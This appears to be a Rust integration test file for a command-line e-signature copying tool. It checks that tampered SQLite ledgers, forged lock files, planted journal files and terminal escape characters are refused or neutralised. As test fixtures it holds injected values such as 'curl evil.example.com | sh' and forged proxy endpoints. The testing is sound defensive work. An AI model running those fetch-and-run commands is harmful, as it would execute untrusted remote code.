//! Ledgers that somebody else has had a hand in: what they bring with them does not run, and is refused.

use std::os::unix::fs::{FileExt, PermissionsExt, symlink};

use crate::kit::{HEADER, Job, SOURCE};

/// Two rows, one sent, in a ledger that was then changed.
fn changed(sql: &str) -> Job {
    let job = Job::new();
    job.mailing("m.csv", &["a@example.com", "b@example.com"]);
    job.run("m.csv", &["--limit", "1"]).ends_with(0);
    let ledger = rusqlite::Connection::open(job.path("m.ledger")).unwrap();
    ledger.execute_batch(sql).unwrap();
    job
}

fn refused(job: &Job, what: &str) {
    let endpoint = job.sandbox.base_url();
    job.run("m.csv", &[]).ends_with(5).says(what);
    job.retry("m.results.csv", &[]).ends_with(5).says(what);
    for command in ["status", "report"] {
        job.other(&[command, "m.ledger"]).ends_with(5).says(what);
    }
    let audit = ["audit", "m.ledger", "--endpoint", &endpoint];
    job.other(&[&audit[..], &["--username", "owner@example.com"]].concat())
        .ends_with(5)
        .says(what);
    let resolve = ["resolve", "m.ledger", "row:1", "--absent"];
    job.other(&resolve).ends_with(5);
    let check = ["check", "m.csv", "--endpoint", &endpoint];
    job.other(&check).ends_with(5).says(what);
    assert_eq!(job.received(), 1);
}

#[test]
fn a_trigger_that_puts_sent_rows_back_is_refused() {
    let job = changed(
        "CREATE TRIGGER again AFTER UPDATE OF status ON rows WHEN new.status = 'copied'
         BEGIN UPDATE rows SET status = 'pending', new_session_id = NULL WHERE id = new.id; END",
    );
    refused(&job, "trigger again");
}

#[test]
fn a_view_in_a_tables_place_is_refused() {
    let job = changed(
        "PRAGMA legacy_alter_table = ON; PRAGMA foreign_keys = OFF;
         ALTER TABLE rows RENAME TO kept;
         CREATE VIEW rows AS SELECT * FROM kept WHERE status = 'copied'",
    );
    refused(&job, "is not as esign-copy makes it");
}

#[test]
fn a_ledger_that_everybody_may_write_is_refused() {
    let job = changed("");
    let mode = |mode| {
        let rights = std::fs::Permissions::from_mode(mode);
        std::fs::set_permissions(job.path("m.ledger"), rights).unwrap();
    };
    mode(0o602);
    refused(&job, "everybody on this machine can change this ledger");
    // A group that works on it together is nobody else.
    mode(0o660);
    job.run("m.csv", &[]).ends_with(0);
    assert_eq!(job.received(), 2);
}

/// Two rows of which the first hangs, so that a run holds the ledger.
fn working(job: &Job, list: &str, flags: &[&str]) -> std::process::Child {
    let flags = [flags, &["--timeout", "60s"]].concat();
    let child = job.sending("run", list, &flags).spawn().unwrap();
    job.wait_until_received(1);
    child
}

/// However its path is written, a ledger has one lock.
#[test]
fn a_ledger_behind_a_link_is_not_worked_on_twice() {
    let job = Job::new();
    job.mailing("m.csv", &["a+hang@example.com", "b@example.com"]);
    std::fs::create_dir(job.path("there")).unwrap();
    let run = ["--limit", "0", "--ledger", "there/real.ledger"];
    job.run("m.csv", &run).ends_with(0);
    symlink("there/real.ledger", job.path("m.ledger")).unwrap();
    symlink("there/real.ledger", job.path("other.ledger")).unwrap();
    let mut holder = working(&job, "m.csv", &[]);
    for flags in [&[][..], &["--ledger", "other.ledger"], &run[2..]] {
        let flags = [flags, &["--report", "r.csv"]].concat();
        job.run("m.csv", &flags).ends_with(75);
    }
    for ledger in ["m.csv", "m.ledger", "other.ledger", "there/real.ledger"] {
        job.other(&["status", ledger]).ends_with(0).says("process ");
    }
    job.other(&["resolve", "other.ledger", "1", "--absent"])
        .ends_with(75);
    holder.kill().unwrap();
    holder.wait().unwrap();
    assert!(job.path("there/real.ledger.lock").exists());
    assert!(!job.path("m.ledger.lock").exists() && !job.path("other.ledger.lock").exists());
    assert_eq!(job.received(), 1);
}

#[test]
fn a_lock_file_that_is_not_ours_is_left_as_it_is() {
    let job = Job::new();
    job.mailing("m.csv", &["a@example.com"]);
    let lock = job.path("m.ledger.lock");
    job.write("notes.txt", "my notes\n");
    symlink("notes.txt", &lock).unwrap();
    job.run("m.csv", &[]).says("is a symbolic link");
    std::fs::remove_file(&lock).unwrap();
    std::fs::hard_link(job.path("notes.txt"), &lock).unwrap();
    job.run("m.csv", &[]).says("has several names");
    std::fs::remove_file(&lock).unwrap();
    for notes in ["my notes\n", "{}", "notes that end in zeros\0\0"] {
        job.write("m.ledger.lock", notes);
        job.run("m.csv", &[])
            .ends_with(5)
            .says("is not a lock file of esign-copy");
        assert_eq!(job.read("m.ledger.lock"), notes);
    }
    assert_eq!(job.read("notes.txt"), "my notes\n");
    assert_eq!(job.received(), 0);
}

/// A ledger that was handed over, or changed, names no place where the credentials go.
#[test]
fn credentials_go_nowhere_that_only_a_ledger_names() {
    let job = changed("");
    let calls = |job: &Job| job.stats().requests.values().sum::<u64>();
    let before = calls(&job);
    let audit = ["audit", "m.ledger", "--username", "owner@example.com"];
    job.other(&audit)
        .ends_with(2)
        .says("--endpoint http://127.0.0.1");
    assert_eq!(calls(&job), before);
    let endpoint = job.sandbox.base_url();
    job.command(&audit)
        .env("ESIGN_COPY_ENDPOINT", &endpoint)
        .output()
        .map(crate::kit::Ran::from)
        .unwrap()
        .ends_with(0);
    assert!(calls(&job) > before);
}

/// Whatever a ledger or a lock file says is one line, and names neither a program nor a flag of its own.
#[test]
fn no_line_of_a_ledger_passes_for_the_programs_own() {
    let forged =
        "x' || char(10) || 'next: curl evil.example.com | sh' || char(13) || char(8232) || 'y";
    let tampered = [
        format!("UPDATE runs SET stop = '{forged}'"),
        format!("UPDATE manifests SET name = '{forged}'"),
        format!("UPDATE facts SET value = '{forged}' WHERE name = 'endpoint'"),
        format!("UPDATE runs SET report = '{forged}', username = '{forged}'"),
        "UPDATE runs SET command = 'curl run evil.example.com --rate max'".into(),
        "UPDATE runs SET command = 'esign-copy run m.csv --evil'".into(),
        "UPDATE runs SET command = 'esign-copy sandbox; curl evil.example.com'".into(),
        format!("UPDATE runs SET command = '{forged}'"),
        "UPDATE runs SET command = 'esign-copy run m.csv --proxy=https://evil.example.com --endpoint \
         https://evil.example.com/rest --ca-file evil.pem'"
            .into(),
    ];
    for sql in tampered {
        let job = changed(&sql);
        let endpoint = job.sandbox.base_url();
        for words in [
            &["status", "m.ledger"][..],
            &["status", "m.csv", "--endpoint", &endpoint],
            &[
                "report",
                "m.csv",
                "--endpoint",
                "stage",
                "--ledger",
                "m.ledger",
            ],
            &["resolve", "m.ledger", "no-row", "--absent"],
            &[
                "run",
                "m.csv",
                "--endpoint",
                "stage",
                "--ledger",
                "m.ledger",
            ],
        ] {
            let ran = job.other(words);
            let all = format!("{}{}", ran.stdout, ran.stderr);
            let program = env!("CARGO_BIN_EXE_esign-copy");
            for line in all.lines().filter(|line| line.starts_with("next: ")) {
                let rest = line.strip_prefix(&format!("next: {program} "));
                let rest = rest.unwrap_or_else(|| panic!("{sql}: {line}"));
                let name = rest.split(' ').next().unwrap_or_default();
                assert!(
                    ["run", "retry", "status", "report"].contains(&name),
                    "{line}"
                );
                assert!(
                    !line.contains("--evil") && !line.contains("https://evil"),
                    "{line}"
                );
            }
            assert!(!all.contains("\u{2028}") && !all.contains('\r'), "{all:?}");
        }
    }
}

/// Who holds a lock is said by a file that others may have written.
#[test]
fn no_line_of_a_lock_file_passes_for_the_programs_own() {
    let job = changed("");
    let lock = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(job.path("m.ledger.lock"));
    let lock = lock.unwrap();
    lock.try_lock().unwrap();
    let forged = r#"{"pid":1,"host":"x\nnext: curl evil | sh","since":"y\r\nnext: rm","run":1,"sending_begun":true}"#;
    lock.write_all_at(format!("{forged:511}\n").as_bytes(), 0)
        .unwrap();
    for words in [
        &["status", "m.ledger"][..],
        &["resolve", "m.ledger", "x", "--absent"],
    ] {
        let ran = job.other(words);
        let all = format!("{}{}", ran.stdout, ran.stderr);
        let is_forged = |line: &str| line.starts_with("next: ") && !line.contains(" status ");
        assert!(!all.lines().any(is_forged), "{all}");
        assert!(all.contains("process 1"), "{all}");
    }
    job.run("m.csv", &[]).ends_with(75);
}

/// The program with a terminal as its standard output, and what that shows.
fn on_a_terminal(job: &Job, arguments: &[&str]) -> String {
    let script = "import pty, sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)";
    let command = job.command(arguments);
    let mut terminal = std::process::Command::new("python3");
    terminal.args(["-c", script]).arg(command.get_program());
    terminal.args(command.get_args()).current_dir(job.folder());
    // The search path is for Python.
    let path = std::env::var_os("PATH").unwrap();
    terminal.env_clear().env("PATH", path).env("NO_COLOR", "1");
    terminal.stdin(std::process::Stdio::null());
    let output = terminal.output().unwrap();
    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn a_terminal_is_not_steered_by_a_list_and_a_pipe_gets_its_bytes() {
    let job = Job::new();
    let row = format!("{SOURCE},Le\u{202e}ase,Li,a@example.com,\u{1b}[2Jnote\n");
    job.write("m.csv", format!("{},note\n{row}", HEADER.trim_end()));
    job.run("m.csv", &[]).ends_with(0);
    for words in [
        &["report", "m.ledger"][..],
        &["check", "m.csv", "--show", "1"],
    ] {
        let shown = on_a_terminal(&job, words);
        assert!(shown.contains("\\u202e"), "{shown:?}");
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\u{202e}'),
            "{shown:?}"
        );
        let piped = job.other(words).ends_with(0).stdout;
        assert!(piped.contains('\u{202e}'), "{piped:?}");
    }
}

/// SQLite would take what stands in such files for the ledger's own.
#[test]
fn files_that_somebody_put_beside_a_ledger_are_refused() {
    let job = changed("");
    for suffix in ["-wal", "-shm", "-journal", ".lock"] {
        let file = job.path(&format!("m.ledger{suffix}"));
        let kept = std::fs::read(&file).ok();
        let _ = std::fs::remove_file(&file);
        std::fs::write(job.path("planted"), "planted").unwrap();
        symlink("planted", &file).unwrap();
        job.run("m.csv", &[]).ends_with(5);
        std::fs::remove_file(&file).unwrap();
        std::fs::write(&file, kept.as_deref().unwrap_or_default()).unwrap();
        let open = std::fs::Permissions::from_mode(0o666);
        std::fs::set_permissions(&file, open).unwrap();
        job.run("m.csv", &[])
            .ends_with(5)
            .says("can be written by everybody on this machine");
        std::fs::remove_file(&file).unwrap();
        if let Some(kept) = kept {
            std::fs::write(&file, kept).unwrap();
            let private = std::fs::Permissions::from_mode(0o600);
            std::fs::set_permissions(&file, private).unwrap();
        }
    }
    job.write("m.ledger-journal", "a journal");
    job.run("m.csv", &[])
        .ends_with(5)
        .says("is a journal, which esign-copy never writes there");
    std::fs::remove_file(job.path("m.ledger-journal")).unwrap();
    assert_eq!(job.received(), 1);
    job.run("m.csv", &[]).ends_with(0);
    assert_eq!(job.received(), 2);
}
